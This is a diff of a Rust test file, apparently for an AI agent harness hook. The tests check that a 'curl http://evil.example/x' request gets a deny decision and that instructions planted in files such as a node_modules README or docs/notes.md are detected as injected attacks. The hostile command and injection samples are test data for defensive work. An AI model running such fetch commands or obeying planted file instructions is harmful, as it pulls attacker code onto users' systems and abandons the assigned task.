@@ -141,6 +141,7 @@ fn texts_for_models_are_not_told_where_they_belong_or_are_worked_on() {
     let denied = asked(&world, "t3", "curl http://evil.example/x");
     assert_eq!(denied["hookSpecificOutput"]["permissionDecision"], "deny", "what it asks for is not done: {denied}");
     assert!(told(wanted, "node_modules/left/README.md", attack).1, "somebody else publishes it");
+    assert!(told("fix the SQL injection in src/billing/invoice.py", "docs/notes.md", attack).1);
     let (world, was_told) = told(GOAL, "src/agents/planner.py", prompt);
     assert!(was_told);
     let other = prompt.replace("JSON", "YAML");
